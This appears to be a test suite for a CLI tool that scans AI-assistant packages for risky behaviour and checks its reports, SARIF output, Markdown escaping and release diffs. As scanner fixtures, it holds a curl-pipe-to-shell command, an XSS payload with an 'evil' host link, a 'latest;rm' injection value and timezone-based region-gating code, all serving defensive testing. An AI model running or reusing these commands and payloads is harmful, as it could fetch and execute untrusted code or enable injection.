// Reports and change over time, through the CLI as users run it: the terminal report's order
// and cuts, SARIF validated against the 2.1.0 schema, Markdown that scanned text cannot
// break, baselines and `diff` over real esbuild output of two releases of one program.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import MarkdownIt from 'markdown-it';
import { tempTree } from '../helpers/tempTree';
import { bundleFixture } from '../helpers/bundlers';
import { appendedBun, bunGraph, elf } from '../helpers/nativeFixtures';
import { platformDependency } from '../../src/cli/npmPackages';
import { compare, renamed, type Delta } from '../../src/core/report/baseline';
import { formatDelta } from '../../src/cli/text';
import { code, fenced, inline } from '../../src/core/report/markdown';

const CLI = path.resolve('dist/cli.js');
const run = (...args: string[]) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, maxBuffer: 1 << 28 });

const SCHEMA = JSON.parse(fs.readFileSync(path.resolve('test/fixtures/sarif/sarif-schema-2.1.0.json'), 'utf8'));
const ajv = new Ajv2020({ allErrors: true, strict: false });
addFormats(ajv);
const validateSarif = ajv.compile(SCHEMA);

function assertValidSarif(text: string): any {
  const doc = JSON.parse(text);
  const ok = validateSarif(doc);
  assert.ok(ok, `SARIF invalid: ${JSON.stringify(validateSarif.errors?.slice(0, 5), null, 1)}`);
  return doc;
}


const folder = (files: Record<string, string | Buffer>) => tempTree(files, 'ata-report-');
const GATE = 'function f(){let h=new URL(process.env.OPENAI_BASE_URL).hostname,t=Intl.DateTimeFormat().resolvedOptions().timeZone;return t==="Asia/Shanghai"||h.includes("deepseek")}\n';
const LOW = 'require("child_process").execFileSync("git",["status"]);\n';
const LONG_EVIDENCE = `require("child_process").execSync("curl -s https://example.org/${'x'.repeat(400)} | sh");\n`;
const MANY_VENDORS = 'function g(){let h=new URL(process.env.OPENAI_BASE_URL).hostname;return ["deepseek","moonshot","dashscope","bigmodel","minimax","baichuan"].some(v=>h.includes(v))}\n';

describe('the terminal report', () => {
  const dir = folder({ 'a-low.js': LOW, 'b-long.js': LONG_EVIDENCE, 'c-many.js': MANY_VENDORS, 'z-gate.js': GATE });

  it('starts with a summary, then lists findings most severe first whatever the file order', () => {
    const r = run('scan', dir);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /^Summary: 1 target, 4 files/);
    assert.match(r.stdout.split('\n')[1], /\d+ high.*every file scanned/);
    const severities = [...r.stdout.matchAll(/^ {4}\S+:\d+:\d+ {2}(high|medium|low|info) /gm)].map(m => m[1]);
    assert.ok(severities.length >= 3, r.stdout);
    const rank = (s: string) => ['info', 'low', 'medium', 'high'].indexOf(s);
    assert.deepEqual(severities, [...severities].sort((a, b) => rank(b) - rank(a)), 'ordered by severity');
    assert.ok(r.stdout.indexOf('z-gate.js') < r.stdout.indexOf('a-low.js'), 'the high finding of the last file comes first');
  });

  it('cuts long evidence with a visible ellipsis, and --verbose prints it whole', () => {
    const brief = run('scan', dir).stdout;
    const verbose = run('scan', dir, '--verbose').stdout;
    assert.match(brief, /x{20}… \(\+\d+ chars\)/);
    assert.ok(!brief.includes('x'.repeat(150)));
    assert.ok(verbose.includes('x'.repeat(150)));
    assert.doesNotMatch(verbose, /\(\+\d+ chars\)/);
    assert.match(brief, /evidence: [^\n]*; … \(\+\d+ more\)/, 'six vendors: items cut');
    assert.match(verbose, /baichuan/);
    assert.match(brief, /native code|z-gate/);
  });

  it('starts with the summary on a real CLI package from npm (mocha, as installed here)', () => {
    const r = run('scan', path.resolve('node_modules/mocha'));
    assert.equal(r.status, 0, r.stderr);
    const lines = r.stdout.split('\n');
    assert.match(lines[0], /^Summary: 1 target, \d+ files, [\d.]+ MB scanned$/);
    assert.match(lines[1], /^ {2}mocha \d+\.\d+\.\d+ \(path\) +(\d+ (high|medium|low|info)(, )?)+ · (every file scanned|1 file not fully scanned|\d+ files not fully scanned)$/);
    const headings = lines.filter(l => /^ {2}(HIGH|MEDIUM|LOW|INFO)$/.test(l)).map(l => l.trim());
    assert.ok(headings.length >= 1);
    assert.deepEqual(headings, ['HIGH', 'MEDIUM', 'LOW', 'INFO'].filter(h => headings.includes(h)), 'severity sections in order');
  });

  it('rejects an unknown --format and a --json that contradicts it', () => {
    assert.equal(run('scan', dir, '--format', 'xml').status, 2);
    assert.match(run('scan', dir, '--json', '--format', 'sarif').stderr, /contradict/);
  });
});

describe('SARIF', () => {
  it('validates against the SARIF 2.1.0 schema, with rules, levels, UTF-16 regions and code flows', () => {
    // A surrogate pair and an accented letter before the hit: 7 UTF-16 code units, 9 bytes.
    const dir = folder({ 'gate.js': `// header\n/*😀é*/${GATE}`, 'low.js': LOW });
    const r = run('scan', dir, '--format', 'sarif');
    assert.equal(r.status, 0, r.stderr);
    const doc = assertValidSarif(r.stdout);
    assert.equal(doc.version, '2.1.0');
    const [sarifRun] = doc.runs;
    assert.equal(doc.runs.length, 1);
    assert.equal(sarifRun.columnKind, 'utf16CodeUnits');
    const rules = sarifRun.tool.driver.rules;
    const gateRule = rules.find((x: any) => x.id === 'region-gating');
    assert.ok(gateRule.shortDescription.text && gateRule.fullDescription.text);
    assert.equal(gateRule.properties.category, 'region');
    assert.match(gateRule.helpUri, /^file:.*\/docs\/rules\/region-gating\.md$/);
    assert.ok(fs.existsSync(new URL(gateRule.helpUri)), 'helpUri points at the shipped rule page');
    const gate = sarifRun.results.find((x: any) => x.ruleId === 'region-gating');
    assert.equal(gate.level, 'error');
    assert.equal(rules[gate.ruleIndex].id, 'region-gating');
    const region = gate.locations[0].physicalLocation.region;
    assert.equal(region.startLine, 2);
    assert.equal(region.startColumn, 7 + GATE.indexOf('"Asia/Shanghai"') + 1, 'columns count UTF-16 code units');
    assert.equal(gate.locations[0].physicalLocation.artifactLocation.uri, 'gate.js');
    assert.ok(gate.relatedLocations.length >= 2);
    const steps = gate.codeFlows[0].threadFlows[0].locations;
    assert.equal(steps.length, gate.relatedLocations.length + 1, 'every correlated step, then the finding');
    assert.deepEqual(steps.at(-1).location.physicalLocation.region, region);
    assert.equal(sarifRun.originalUriBaseIds.TARGET0.uri, `${new URL(`file://${dir}/`).href}`);
  });

  it('keeps partialFingerprints equal across re-scans and when another file changes', () => {
    const dir = folder({ 'gate.js': GATE, 'other.js': LOW });
    const prints = () => {
      const doc = assertValidSarif(run('scan', dir, '--format', 'sarif').stdout);
      return doc.runs[0].results.filter((x: any) => x.locations[0].physicalLocation.artifactLocation.uri === 'gate.js').map((x: any) => x.partialFingerprints['aiToolAudit/v1']);
    };
    const first = prints();
    assert.ok(first.length >= 3);
    assert.equal(new Set(first).size, first.length, 'unique within a run');
    assert.deepEqual(prints(), first);
    fs.writeFileSync(path.join(dir, 'other.js'), `// changed\n\n${LOW}${LOW}`);
    assert.deepEqual(prints(), first);
  });

  it('points findings in a module embedded in a binary at the binary, naming the module', () => {
    const graph = bunGraph([{ name: '/$bunfs/root/cli.js', text: GATE }]);
    const dir = folder({ 'bin/tool': appendedBun(elf(), graph) });
    const out = path.join(dir, 'out.sarif');
    const r = run('scan', dir, '--sarif', out);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /SARIF report written to/);
    const doc = assertValidSarif(fs.readFileSync(out, 'utf8'));
    const gate = doc.runs[0].results.find((x: any) => x.ruleId === 'region-gating');
    assert.ok(gate, 'the gate inside the binary is reported');
    assert.equal(gate.locations[0].physicalLocation.artifactLocation.uri, 'bin/tool');
    assert.equal(gate.locations[0].physicalLocation.region, undefined, 'module lines are not a region of the binary');
    assert.deepEqual(gate.locations[0].logicalLocations, [{ name: '/$bunfs/root/cli.js', kind: 'module' }]);
    assert.equal(gate.locations[0].properties.moduleRegion.startLine, 1);
  });

  it('reports files it could not scan as notifications, and encodes odd file names', () => {
    const dir = folder({ 'we ird#%.js': GATE, 'big.js': `${'a'.repeat(2 * 1024 * 1024)}\n` });
    const doc = assertValidSarif(run('scan', dir, '--format', 'sarif', '--max-file-mb', '1').stdout);
    const notes = doc.runs[0].invocations[0].toolExecutionNotifications;
    assert.ok(notes.some((n: any) => n.locations[0].physicalLocation.artifactLocation.uri === 'big.js' && /limit/.test(n.message.text)));
    assert.ok(doc.runs[0].results.some((x: any) => x.locations[0].physicalLocation.artifactLocation.uri === 'we%20ird%23%25.js'));
  });

  it('is what the validator rejects when broken: the check can fail', () => {
    const doc = assertValidSarif(run('scan', folder({ 'g.js': GATE }), '--format', 'sarif').stdout);
    delete doc.version;
    assert.equal(validateSarif(doc), false);
    doc.version = '2.1.0';
    doc.runs[0].results[0].level = 'fatal';
    assert.equal(validateSarif(doc), false);
  });
});

describe('the Markdown report', () => {
  it('starts with an assistant x category table and shows hostile text inert', () => {
    const hostile = 'require("child_process").execSync("echo ```<img src=x onerror=alert(1)> [link](https://evil.example.org) | sh");\n';
    const dir = folder({ 'gate.js': GATE, 'hostile.js': hostile });
    const out = path.join(dir, 'report.md');
    const r = run('scan', dir, '--markdown', out);
    assert.equal(r.status, 0, r.stderr);
    const md = fs.readFileSync(out, 'utf8');
    assert.match(md, /^# ai-tool-audit report/);
    assert.match(md, /## Summary\n\n\| Assistant \| region \|[^\n]*\n\|---\|/);
    assert.match(md, /\| \d+ \(high\) \|/);
    // Rendered as GitHub would (HTML and bare URLs on): no element comes from scanned text.
    const html = new MarkdownIt({ html: true, linkify: true }).render(md);
    assert.doesNotMatch(html, /<img|<a /, 'no image or link element');
    assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;/, 'shown as text');
    const fence = md.match(/^ {2}(`{4,})text$/m);
    assert.ok(fence, 'the excerpt holding ``` sits in a longer fence');
  });

  it('escapes inline text so that it cannot open links, HTML or cells, and fences cannot be closed early', () => {
    assert.equal(inline('a|b <x> [l](u) https://h www.x.y'), 'a\\|b \\<x\\> \\[l\\]\\(u\\) https:\\/\\/h www\\.x.y');
    assert.equal(code('a`b'), '``a`b``');
    assert.equal(code('`x'), '`` `x ``');
    const [open, body, close] = fenced('x ```` y\u001b[31m');
    assert.equal(open, '`````text');
    assert.equal(close, '`````');
    assert.ok(!body.includes('\u001b'));
  });
});

describe('baselines and diff over two real releases (esbuild, minified)', () => {
  let v1 = '';
  let v2 = '';
  before(async function () {
    this.timeout(60_000);
    v1 = await bundleFixture('update', { bundler: 'esbuild', minify: true });
    v2 = await bundleFixture('update', { bundler: 'esbuild', minify: true }, 'main-v2.mjs');
  });

  it('marks what a release added new, keeps the rest unchanged and finds nothing gone', () => {
    const dir = folder({ 'package.json': '{"name":"tool","version":"1.0.0"}', 'cli.js': v1 });
    const snapshot = path.join(dir, 'before.json');
    assert.equal(run('scan', dir, '--save-baseline', snapshot).status, 0);
    fs.writeFileSync(path.join(dir, 'cli.js'), v2);
    fs.writeFileSync(path.join(dir, 'package.json'), '{"name":"tool","version":"2.0.0"}');
    const r = run('scan', dir, '--baseline', snapshot, '--json');
    assert.equal(r.status, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    const [change] = out.changes;
    const findings = out.targets[0].findings;
    const added = change.newFindings.map((i: number) => findings[i].ruleId);
    assert.ok(added.includes('region-gating'), `new: ${added}`);
    assert.ok(!added.includes('child-process'), `the git run was there before: ${added}`);
    const hostsAdded = change.newFindings.map((i: number) => findings[i].host).filter(Boolean);
    assert.ok(!hostsAdded.includes('events.usage-metrics.io'), `the analytics host was there before: ${hostsAdded}`);
    assert.ok(!change.hostsAdded.includes('events.usage-metrics.io'));
    assert.deepEqual(change.gone, []);
    assert.ok(change.rulesAdded.includes('region-gating'));
    assert.equal(change.from, '1.0.0');
    assert.equal(change.to, '2.0.0');
    assert.ok(change.vendorsAdded.includes('deepseek'));

    const text = run('scan', dir, '--baseline', snapshot).stdout;
    assert.match(text, /What changed in tool 1\.0\.0 -> 2\.0\.0: \d+ new, 0 gone/);
    assert.match(text, /new kinds of finding: [^\n]*region-gating/);
    assert.match(text, /region-gating +Reads [^\n]*\(new\)/);
    assert.ok(text.indexOf('What changed') < text.indexOf('\n  HIGH\n'), 'what changed comes right after the summary, before the findings');

    const sarif = assertValidSarif(run('scan', dir, '--baseline', snapshot, '--format', 'sarif').stdout);
    const states = new Map(sarif.runs[0].results.map((x: any) => [x.ruleId + x.locations[0].physicalLocation.region?.startColumn, x.baselineState]));
    assert.ok([...states.values()].every(s => s === 'new' || s === 'unchanged'));
    assert.ok(sarif.runs[0].results.some((x: any) => x.ruleId === 'region-gating' && x.baselineState === 'new'));
  });

  it('lists findings that went away as gone', () => {
    const dir = folder({ 'cli.js': v2 });
    const snapshot = path.join(dir, 'before.json');
    run('scan', dir, '--save-baseline', snapshot);
    fs.writeFileSync(path.join(dir, 'cli.js'), v1);
    const out = JSON.parse(run('scan', dir, '--baseline', snapshot, '--json').stdout);
    assert.ok(out.changes[0].gone.some((f: any) => f.ruleId === 'region-gating'));
    assert.ok(out.changes[0].rulesRemoved.includes('region-gating'));
    assert.deepEqual(out.changes[0].newFindings, []);
  });

  it('refuses a file that is not a baseline with a clear message', () => {
    const dir = folder({ 'x.js': LOW, 'bad.json': '{"kind":"something"}', 'broken.json': '{' });
    assert.match(run('scan', dir, '--baseline', path.join(dir, 'bad.json')).stderr, /not a baseline/);
    assert.equal(run('scan', dir, '--baseline', path.join(dir, 'broken.json')).status, 2);
    assert.match(run('scan', dir, '--baseline', path.join(dir, 'none.json')).stderr, /cannot read baseline/);
  });

  it('diff audits two cached versions of a package and prints what the newer one added', () => {
    const cache = folder({});
    for (const [version, text] of [['1.0.0', v1], ['2.0.0', v2]]) {
      const pkg = path.join(cache, `@acme+tool@${version}`, 'package');
      fs.mkdirSync(pkg, { recursive: true });
      fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: '@acme/tool', version }));
      fs.writeFileSync(path.join(pkg, 'cli.js'), text);
      fs.writeFileSync(path.join(cache, `@acme+tool@${version}`, '.complete'), 'test\n');
    }
    const r = run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /^What changed in @acme\/tool 1\.0\.0 -> 2\.0\.0: \d+ new, 0 gone/);
    assert.match(r.stdout, /high +region-gating +cli\.js:\d+:\d+/);
    assert.equal(run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache, '--fail-on', 'high').status, 1);
    // The exit code says why, also when --min-severity hides what reached it; counts below medium go under their own severity.
    const hidden = run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache, '--fail-on', 'info', '--min-severity', 'info');
    assert.equal(hidden.status, 1);
    assert.match(hidden.stderr, /^fail-on info: @acme\/tool@2\.0\.0 adds \d+ findings? of info or above$/m);
    assert.doesNotMatch(hidden.stdout, /, low: /, 'a few changes below medium are listed, not counted');
    assert.match(hidden.stdout, /^ {4}info {3}network-endpoint +cli\.js:\d+:\d+ /m);
    assert.match(hidden.stdout, /^ {4}low {4}vendor-keywords +cli\.js:\d+:\d+ /m);
    const md = run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache, '--format', 'markdown').stdout;
    assert.match(md, /## What changed in \\@acme\/tool 1\.0\.0 → 2\.0\.0/, "scanned names are escaped, @ too");
  });

  it('diff refuses names and versions that are not npm specs, before running npm', () => {
    assert.match(run('diff', '../../etc', '1.0.0', '2.0.0', '--cache', folder({})).stderr, /not an npm package name/);
    assert.match(run('diff', 'tool', '1.0.0', 'latest;rm', '--cache', folder({})).stderr, /not a version/);
    assert.equal(run('diff', 'tool', '1.0.0').status, 2);
  });
});

describe('what a new-user review found (regression tests)', () => {
  const scanJson = (dir: string, ...args: string[]) => JSON.parse(run('scan', dir, '--json', ...args).stdout);

  it('calls a finding whose host or address changed new, never unchanged', () => {
    const dir = folder({ 'package.json': '{"name":"t","version":"1.0.0"}', 'a.js': 'fetch("https://93.184.216.34/x");fetch("https://logs.acme.com/v1");\n' });
    const snapshot = path.join(dir, '..', `${path.basename(dir)}-base.json`);
    run('scan', dir, '--save-baseline', snapshot);
    fs.writeFileSync(path.join(dir, 'a.js'), 'fetch("https://45.33.12.7/x");fetch("https://logs.evil.com/v1");\n');
    const out = scanJson(dir, '--baseline', snapshot);
    const fresh = out.changes[0].newFindings.map((i: number) => out.targets[0].findings[i].host);
    assert.ok(fresh.includes('45.33.12.7') && fresh.includes('logs.evil.com'), `new: ${fresh}`);
    assert.deepEqual([...new Set(out.changes[0].gone.map((f: any) => f.host).filter(Boolean))].sort(), ['93.184.216.34', 'logs.acme.com']);
  });

  it('never compares with the snapshot of another assistant, and says so', () => {
    const a = folder({ 'package.json': '{"name":"one","version":"1.0.0"}', 'a.js': GATE });
    const b = folder({ 'package.json': '{"name":"two","version":"1.0.0"}', 'b.js': LOW });
    const snapshot = path.join(a, 'base.json');
    run('scan', a, '--save-baseline', snapshot);
    const r = run('scan', b, '--baseline', snapshot, '--json');
    assert.deepEqual(JSON.parse(r.stdout).changes, []);
    assert.match(r.stderr, /the baseline has no snapshot of two \(it holds one\)/);
  });

  it('ranks a rule in SARIF by the highest severity it reports, and keeps scanned control characters out', () => {
    const dir = folder({ 'a.js': 'fetch("https://93.184.216.34/x");\nrequire("child_process").execSync("echo \\u001b[31mred\\u0007 \\u202e");\n' });
    const doc = assertValidSarif(run('scan', dir, '--format', 'sarif').stdout);
    const rules = doc.runs[0].tool.driver.rules;
    const ip = doc.runs[0].results.find((x: any) => x.ruleId === 'network-endpoint' && x.level === 'error');
    assert.ok(ip, 'a request to a public IP is high');
    assert.equal(rules[ip.ruleIndex].properties['security-severity'], '8.0');
    const text = JSON.stringify(doc.runs[0].results.map((x: any) => [x.message.text, x.properties]));
    assert.ok(!/[\u001b\u0007\u202e]/.test(JSON.parse(JSON.stringify(text))), 'no raw ESC, BEL or bidi override in any string');
    assert.match(text, /\\\\u\{1B\}/, 'shown as a visible escape');
  });

  it('writes the same SARIF with --sarif FILE beside the text as with --format sarif', () => {
    const dir = folder({ 'a.js': `${GATE}${LOW}` });
    const file = path.join(dir, 'out.sarif');
    run('scan', dir, '--sarif', file);
    const count = (doc: any) => doc.runs[0].results.length;
    assert.equal(count(JSON.parse(fs.readFileSync(file, 'utf8'))), count(JSON.parse(run('scan', dir, '--format', 'sarif').stdout)));
    assert.ok(JSON.parse(fs.readFileSync(file, 'utf8')).runs[0].results.some((x: any) => x.properties.severity === 'info'), 'info findings too');
  });

  it('keeps e-mail addresses in scanned text from becoming links in Markdown', () => {
    const dir = folder({ 'a.js': 'require("child_process").execSync("ssh deploy@evil-cdn.net mailto:x@phish-login.com | sh");\n' });
    const html = new MarkdownIt({ html: true, linkify: true }).render(run('scan', dir, '--format', 'markdown').stdout);
    assert.doesNotMatch(html, /<a /);
    assert.match(html, /deploy@evil-cdn\.net/);
  });
});

describe('SARIF fingerprints across releases', () => {
  it('keep the alert of code that only moved or was renamed by the minifier', async function () {
    this.timeout(60_000);
    const v1 = await bundleFixture('update', { bundler: 'esbuild', minify: true });
    const v2 = await bundleFixture('update', { bundler: 'esbuild', minify: true }, 'main-v2.mjs');
    const prints = (text: string) => {
      const doc = assertValidSarif(run('scan', folder({ 'package.json': '{"name":"tool"}', 'cli.js': text }), '--format', 'sarif').stdout);
      return new Map(doc.runs[0].results.filter((x: any) => x.ruleId === 'child-process' || x.ruleId === 'network-endpoint').map((x: any) => [x.message.text, x.partialFingerprints['aiToolAudit/v1']]));
    };
    const a = prints(v1);
    const b = prints(v2);
    assert.ok(a.size >= 2);
    for (const [message, print] of a) assert.equal(b.get(message), print, String(message));
  });
});

describe('matching findings across releases', () => {
  it('blurs minified names and build numbers, not commands or hosts', () => {
    assert.equal(renamed('Starts a program (child_process.spawnSync via Hs()): brew'), renamed('Starts a program (child_process.spawnSync via Ds()): brew'));
    assert.equal(renamed('execFile via xyq.execFile()'), renamed('execFile via JEq.execFile()'));
    assert.equal(renamed('/tmp/claude-cli-external-build-2185/x.node'), renamed('/tmp/claude-cli-external-build-2211/x.node'));
    assert.notEqual(renamed('via Hs(): brew'), renamed('via Hs(): curl'));
    assert.notEqual(renamed('host api.deepseek.com'), renamed('host api.moonshot.cn'));
  });

  // Fourth review: with one more copy of a repeated finding, the diff named a copy that had only moved.
  it('names the new copy of a repeated finding as added, not the last of its group (esbuild, minified)', async function () {
    this.timeout(60_000);
    const writes = (text: string) => JSON.parse(run('scan', folder({ 'package.json': '{"name":"tool"}', 'cli.js': text }), '--json').stdout).targets[0].findings.filter((f: any) => f.ruleId === 'file-write');
    const before = writes(await bundleFixture('repeated-update', { bundler: 'esbuild', minify: true }));
    const now = writes(await bundleFixture('repeated-update', { bundler: 'esbuild', minify: true }, 'main-v2.mjs'));
    assert.equal(new Set([...before, ...now].map((f: any) => f.message)).size, 1, 'one message for every write');
    assert.deepEqual([before.length, now.length], [2, 3]);
    const result = compare({ id: 'tool', name: 'tool', kind: 'path', findings: before }, now);
    const added = result.current.filter(c => c.state === 'new').map(c => c.finding);
    assert.equal(added.length, 1);
    assert.match(added[0].excerpt ?? '', /base64/);
    assert.deepEqual(result.gone, []);
  });

  it('lists a few changes below medium one by one and counts many by rule, each under its own severity', () => {
    const finding = (ruleId: string, severity: 'low' | 'info', i: number) =>
      ({ ruleId, severity, category: 'network', message: `m${i}`, file: 'cli.js', line: 1, column: i + 1, evidence: [], related: [] }) as unknown as Delta['added'][number];
    const delta = (added: Delta['added']): Delta => ({ name: 'tool', from: '1', to: '2', added, removed: [], unchanged: 0, rulesAdded: [], rulesRemoved: [], hostsAdded: [], hostsRemoved: [], vendorsAdded: [], vendorsRemoved: [], settingsChanged: [] });
    const plain = { color: false } as Parameters<typeof formatDelta>[1];
    const few = formatDelta(delta([finding('network-call', 'info', 0), finding('file-write', 'low', 1)]), plain, 'info');
    assert.match(few, /^ {4}low {4}file-write +cli\.js:1:2 +m1$/m);
    const many = formatDelta(delta([...Array.from({ length: 16 }, (_, i) => finding('network-call', 'info', i)), finding('file-write', 'low', 20)]), plain, 'info');
    assert.match(many, /^ {2}added, low: file-write 1$/m);
    assert.match(many, /^ {2}added, info: network-call 16$/m);
  });

  it("finds this machine's native platform package among optionalDependencies", () => {
    const dir = folder({
      'package.json': JSON.stringify({ name: '@acme/cli', optionalDependencies: { '@img/sharp-linux-x64': '0.34.2', '@acme/cli-linux-x64-musl': '2.0.0', '@acme/cli-linux-x64': '2.0.0', '@acme/cli-darwin-arm64': '2.0.0' } }),
    });
    const library = folder({ 'package.json': JSON.stringify({ name: 'gem', optionalDependencies: { '@img/sharp-linux-x64': '0.34.2', '@lydell/node-pty-linux-x64': '1.1.0' } }) });
    assert.equal(platformDependency(library, 'linux', 'x64'), undefined, "a library's native build is not the assistant's code");
    assert.deepEqual(platformDependency(dir, 'linux', 'x64'), { name: '@acme/cli-linux-x64', version: '2.0.0' });
    assert.deepEqual(platformDependency(dir, 'darwin', 'arm64'), { name: '@acme/cli-darwin-arm64', version: '2.0.0' });
    assert.equal(platformDependency(dir, 'win32', 'x64'), undefined);
  });
});
